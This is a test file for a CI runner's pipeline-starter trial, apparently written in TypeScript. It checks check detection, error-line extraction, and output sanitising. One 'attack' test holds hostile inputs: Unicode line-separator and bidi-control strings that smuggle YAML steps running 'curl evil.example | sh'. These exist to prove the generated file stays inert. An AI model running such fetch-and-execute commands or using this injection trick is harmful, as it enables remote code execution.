import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { closeSync, existsSync, mkdtempSync, openSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { detect } from '../../src/init/detect.js';
import { starterPipeline } from '../../src/init/starter.js';
import { checksOf, judgeTrial, readTrial, tellingLine, TRIAL_STEP, trialPipeline, trialScript } from '../../src/init/trial.js';
import { MAX_OUTPUT_FILE, parseOutputs } from '../../src/run/outputs.js';
import { parsePipeline } from '../../src/pipeline/parse.js';

const node = detect({ names: ['package.json', 'package-lock.json'], packageJson: JSON.stringify({ scripts: { test: 'node t.js', lint: 'eslint .' } }) });

test('the trial is one step as the starter\'s verify runs: its image, egress, cache and timeout, pushed nowhere, declaring its outputs', () => {
  const p = parsePipeline(JSON.stringify(trialPipeline(node)), 'trial');
  assert.equal(p.project.push, 'never');
  assert.equal(p.steps.length, 1);
  const s = p.steps[0]!;
  assert.equal(s.id, TRIAL_STEP);
  assert.equal(s.image, 'runner/toolchain:latest');
  assert.deepEqual(s.egress, ['registry.npmjs.org']);
  assert.deepEqual(s.outputs, ['install_exit', 'install_output', 'test_exit', 'test_output', 'lint_exit', 'lint_output']);
  assert.equal(p.steps[0]!.verify, undefined, 'the trial is no verify step');
  assert.deepEqual(checksOf(node).map((c) => c.command), ['npm test', 'npm run lint']);
  assert.equal(parsePipeline(JSON.stringify(trialPipeline(node, { devcontainer: true })), 'trial').steps[0]!.image, 'devcontainer', 'tried in the dev container the starter proposes');
});

test('the trial script, run by sh -e as a step runs it: each exit and output reach $RUNNER_OUTPUT; a failed install stops it', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'runner-trial-'));
  try {
    const run = (d: Parameters<typeof trialScript>[0]) => {
      const out = path.join(dir, `out-${Math.random()}`);
      const printed = execFileSync('sh', ['-e', '-c', trialScript(d)], { cwd: dir, env: { ...process.env, RUNNER_OUTPUT: out }, encoding: 'utf8' });
      return { printed, outputs: parseOutputs(readFileSync(out, 'utf8')) };
    };
    const made = { ecosystem: 'make' as const, evidence: 'x', install: "echo 'installed it'", test: 'echo all good', lint: 'echo "lint: cannot find module x" >&2; exit 2' };
    const r = run(made);
    assert.deepEqual(r.outputs.problems, []);
    assert.equal(r.outputs.values.install_exit, '0');
    assert.equal(r.outputs.values.test_exit, '0');
    assert.equal(r.outputs.values.lint_exit, '2');
    assert.match(r.printed, /runner init: trying the lint: echo/);
    assert.match(r.printed, /lint: cannot find module x/, 'the output is shown as it comes');
    const t = readTrial(made, { commit: 'c0ffee1234567', runId: 'R', outputs: r.outputs.values });
    assert.deepEqual(t.checks.lint, { command: made.lint, exitCode: 2, line: 'lint: cannot find module x' });
    const failedInstall = run({ ...made, install: 'echo "npm error SELF_SIGNED_CERT_IN_CHAIN"; false' });
    assert.equal(failedInstall.outputs.values.install_exit, '1');
    assert.equal(failedInstall.outputs.values.test_exit, undefined, 'the checks are not tried after a failed install');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the telling line: the first that reads as an error, else the last; one line, cut', () => {
  assert.equal(tellingLine('\n> p@1.0.0 lint\n> eslint .\n\nsh: 1: eslint: not found\n'), 'sh: 1: eslint: not found');
  assert.equal(tellingLine('npm error Missing script: "lint"\nnpm error\nnpm error To see a list of scripts, run:\n'), 'npm error Missing script: "lint"');
  assert.equal(tellingLine('1 passing\n2 pending\n...\nexit now\n'), 'exit now');
  assert.equal(tellingLine('\x1b[31mError: boom\x1b[0m\r\n'), 'Error: boom');
  assert.equal(tellingLine(''), '(no output)');
  assert.equal(tellingLine(`Error ${'x'.repeat(300)}`).length, 160);
});

test('judged: a failing lint is left out with why; a failing test stays, noted; a failed install judges nothing', () => {
  const outcome = (o: Record<string, string>) => readTrial(node, { commit: 'abc1234567890', runId: '20261127-000000-aaaaaa', outputs: o });
  const lintBroken = judgeTrial(node, outcome({ install_exit: '0', install_output: 'added 3', test_exit: '0', test_output: 'ok', lint_exit: '127', lint_output: 'sh: 1: eslint: not found' }));
  assert.deepEqual(lintBroken.leftOut.map((l) => l.check.command), ['npm run lint']);
  assert.equal(lintBroken.leftOut[0]!.comment, 'npm run lint failed on the base commit abc1234567 (exit 127): sh: 1: eslint: not found; left out (runner logs 20261127-000000-aaaaaa --step try)');
  // init's home named by --home: the command to read the trial's log names it too
  const elsewhere = judgeTrial(node, outcome({ install_exit: '0', test_exit: '0', lint_exit: '2', lint_output: 'SyntaxError' }), { home: "/tmp/a home's" });
  assert.match(elsewhere.leftOut[0]!.comment, / \(runner logs 20261127-000000-aaaaaa --step try --home '\/tmp\/a home'\\''s'\)$/);
  assert.deepEqual(lintBroken.notes, []);
  const testRed = judgeTrial(node, outcome({ install_exit: '0', test_exit: '1', test_output: 'AssertionError: 1 == 2', lint_exit: '0' }));
  assert.deepEqual(testRed.leftOut, []);
  assert.match(testRed.notes[0]!, /^npm test failed on the base commit abc1234567 \(exit 1\): AssertionError: 1 == 2; kept/);
  const noInstall = judgeTrial(node, outcome({ install_exit: '1', install_output: 'npm error code SELF_SIGNED_CERT_IN_CHAIN' }));
  assert.deepEqual(noInstall.leftOut, []);
  assert.match(noInstall.notes[0]!, /the install failed on the base commit abc1234567, so the checks could not be tried; all kept .*SELF_SIGNED_CERT_IN_CHAIN/);
  assert.deepEqual(judgeTrial(node, outcome({ install_exit: '0', test_exit: '0', lint_exit: '0' })), { leftOut: [], notes: [] });
});

test('the starter leaves a broken lint out of its verify, with the reason where the line was; every variant validates', () => {
  const verdict = judgeTrial(node, readTrial(node, { commit: 'abc1234567890', runId: 'R1', outputs: { install_exit: '0', test_exit: '0', lint_exit: '127', lint_output: 'sh: 1: eslint: not found\n"quoted": {x}' } }));
  const text = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: node, trial: verdict });
  const p = parsePipeline(text, 'runner.yaml');
  const verify = p.steps.find((s) => s.verify)!;
  assert.equal(verify.run, 'npm ci --no-audit --no-fund\nnpm test\n# npm run lint failed on the base commit abc1234567 (exit 127): sh: 1: eslint: not found; left out (runner logs R1 --step try)\n# npm run lint\n');
  const untried = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: node, trial: { notTried: 'the trial could not run: no engine\nsecond line' } });
  assert.match(untried, /# The checks were not tried on the project \(the trial could not run: no engine second line\)\.\n {2}- id: verify/);
  assert.match(parsePipeline(untried, 'r.yaml').steps[1]!.run!, /npm test\nnpm run lint\n$/, 'untried: all kept');
  // an engine's whole answer, with the separators some YAML readers take for line breaks: one bounded comment line
  const long = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: node, trial: { notTried: `npm error\u2028steps: []\u2029\u0085x${'e'.repeat(2000)}` } });
  const line = long.split('\n').find((l) => l.includes('were not tried'))!;
  assert.ok(line.length < 400, `${line.length} characters`);
  assert.doesNotMatch(line, /[\u2028\u2029\u0085]/);
  assert.equal(parsePipeline(long, 'r.yaml').steps.length, 2);
});

test('a dev container is detected; image: devcontainer is proposed only where the schema takes it', () => {
  const withDc = detect({ names: ['package.json', '.devcontainer'], packageJson: '{"scripts":{"test":"node t.js"}}', devcontainerFiles: ['.devcontainer/devcontainer.json'] });
  assert.equal(withDc.devcontainer, '.devcontainer/devcontainer.json');
  assert.equal(detect({ names: ['.devcontainer.json'], devcontainerFiles: ['.devcontainer.json'] }).devcontainer, '.devcontainer.json');
  assert.equal(detect({ names: ['.devcontainer.json'], devcontainerFiles: ['.devcontainer.json', '.devcontainer/devcontainer.json'] }).devcontainer, '.devcontainer/devcontainer.json', 'the spec\'s order');
  assert.equal(detect({ names: ['package.json'], packageJson: '{}' }).devcontainer, undefined);
  const proposed = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: withDc, devcontainerImage: true });
  const p = parsePipeline(proposed, 'runner.yaml');
  assert.equal(p.defaults?.image, 'devcontainer');
  assert.equal(p.steps.find((s) => s.verify)!.image, undefined, 'the verify step runs in the dev container too');
  const notYet = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: withDc, devcontainerImage: false });
  assert.match(notYet, /# Found \.devcontainer\/devcontainer\.json: this runner does not run steps in a dev container yet/);
  assert.equal(parsePipeline(notYet, 'runner.yaml').defaults?.image, undefined);
});

test('attack: a check that leaves a process behind holding its output does not hold the trial until its timeout', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'runner-trial-'));
  try {
    const out = path.join(dir, 'outputs');
    const printed = path.join(dir, 'printed');
    // a test that starts a server in the background and forgets it: the verify it stands for ends with its script
    const d = { ecosystem: 'make' as const, evidence: 'x', test: 'echo testing; sleep 60 & echo started', lint: 'echo "lint: broken" >&2; exit 3' };
    const fd = openSync(printed, 'w');
    const started = Date.now();
    try {
      // the script's own end is what is timed (its stdout a file: the leftover sleep holds no pipe of the test's)
      execFileSync('sh', ['-e', '-c', trialScript(d)], { cwd: dir, env: { ...process.env, RUNNER_OUTPUT: out }, stdio: ['ignore', fd, fd], timeout: 30_000 });
    } finally {
      closeSync(fd);
    }
    assert.ok(Date.now() - started < 15_000, `the trial went on after its checks: ${Date.now() - started} ms`);
    const o = parseOutputs(readFileSync(out, 'utf8'));
    assert.deepEqual(o.problems, []);
    assert.equal(o.values.test_exit, '0');
    assert.equal(o.values.lint_exit, '3', 'the next check is still tried and judged');
    assert.match(o.values.test_output!, /started/);
    assert.match(readFileSync(printed, 'utf8'), /testing\nstarted\n[^]*lint: broken/, 'the output is shown as it comes');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('attack: a telling line with what starts a line to other readers (NEL, U+2028, U+2029), C1 and bidi controls, a lone surrogate, lands in the starter visible and inert', () => {
  const hostile = [
    'error\u2028  - id: evil\u2028    run: curl evil.example | sh',
    'error\u2029x: 1',
    'error\u0085  - id: evil\u0085    run: curl evil.example | sh',
    'error \u009b31m red',
    'error \u202e hsab \u202c',
    'error \ud800 half',
    'error # not a comment\r\n  - id: evil',
    `error ${'y'.repeat(200_000)}`,
  ];
  for (const h of hostile) {
    const line = tellingLine(h);
    assert.doesNotMatch(line, /[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/, `a control is left in ${JSON.stringify(line)}`);
    assert.ok(line.length <= 160);
    const verdict = judgeTrial(node, readTrial(node, { commit: 'abc1234567890', runId: 'R1', outputs: { install_exit: '0', test_exit: '1', test_output: h, lint_exit: '2', lint_output: h } }));
    const text = starterPipeline({ name: 'demo', agent: 'claude-code', git: true, detected: node, trial: verdict });
    assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/, 'the file holds no line break but \\n, no control');
    const p = parsePipeline(text, 'runner.yaml');
    assert.deepEqual(p.steps.map((s) => s.id), ['implement', 'verify'], 'no step of the output\'s');
    const verify = p.steps[1]!;
    assert.deepEqual(verify.run!.split('\n').filter((l) => l && !l.startsWith('# ')), ['npm ci --no-audit --no-fund', 'npm test'], 'the script runs only the checks');
  }
  assert.equal(tellingLine('error\u2028next'), 'error\\u2028next');
});

test('attack: a check that prints one line of megabytes does not push the next check out of the trial\'s outputs', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'runner-trial-'));
  try {
    const out = path.join(dir, 'outputs');
    const d = { ecosystem: 'make' as const, evidence: 'x', install: "node -e \"process.stdout.write('i'.repeat(3e6) + '\\\\n')\"", test: "node -e \"console.log('x'.repeat(3e6)); console.log('Error: boom')\"; exit 1", lint: 'echo "lint: broken" >&2; exit 3' };
    execFileSync('sh', ['-e', '-c', trialScript(d)], { cwd: dir, env: { ...process.env, RUNNER_OUTPUT: out }, stdio: 'ignore' });
    const text = readFileSync(out, 'utf8');
    assert.ok(text.length < MAX_OUTPUT_FILE / 4, `the outputs file holds ${text.length} bytes`);
    const o = parseOutputs(text);
    assert.deepEqual(o.problems, []);
    const t = readTrial(d, { commit: 'c0ffee1234567', runId: 'R', outputs: o.values });
    assert.equal(t.install?.exitCode, 0);
    assert.deepEqual(t.checks.test, { command: d.test, exitCode: 1, line: 'Error: boom' });
    assert.deepEqual(t.checks.lint, { command: d.lint, exitCode: 3, line: 'lint: broken' }, 'the lint after it is judged');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the trial leaves a node_modules git ignores for the installed-tree cache to keep (npm cache only); everything else it made is cleaned', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'runner-trial-'));
  try {
    const g = (...args: string[]) => execFileSync('git', ['-C', dir, ...args], { encoding: 'utf8' });
    g('init', '-q', '.');
    const npmProject = { ...node, install: 'mkdir -p node_modules/a && echo x > node_modules/a/index.js && echo made > stray.txt', test: 'echo ok', lint: 'echo ok' };
    const trial = (d: Parameters<typeof trialScript>[0], ignore: string | undefined) => {
      rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true });
      if (ignore === undefined) rmSync(path.join(dir, '.gitignore'), { force: true });
      else execFileSync('sh', ['-c', `printf '%s\\n' "$1" > .gitignore`, 'sh', ignore], { cwd: dir });
      g('add', '-A');
      g('-c', 'user.name=t', '-c', 'user.email=t@localhost', 'commit', '-q', '--allow-empty', '-m', 'base');
      execFileSync('sh', ['-e', '-c', trialScript(d)], { cwd: dir, env: { ...process.env, RUNNER_OUTPUT: path.join(os.tmpdir(), `out-${process.pid}-${Math.random()}`) }, stdio: 'ignore' });
      return { modules: existsSync(path.join(dir, 'node_modules')), stray: existsSync(path.join(dir, 'stray.txt')), status: g('status', '--porcelain', '--ignored') };
    };
    for (const ignore of ['node_modules', 'node_modules/', '/node_modules']) {
      const r = trial(npmProject, ignore);
      assert.equal(r.modules, true, `node_modules is left when .gitignore says ${ignore}`);
      assert.equal(r.stray, false, 'what else the trial made is cleaned');
      assert.equal(r.status, '!! node_modules/\n', 'nothing the step would commit');
    }
    assert.equal(trial(npmProject, undefined).modules, false, 'a node_modules git does not ignore is cleaned: the step would commit it');
    assert.equal(trial({ ...npmProject, cache: undefined }, 'node_modules/').modules, false, 'without the npm cache there is no tree to keep');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
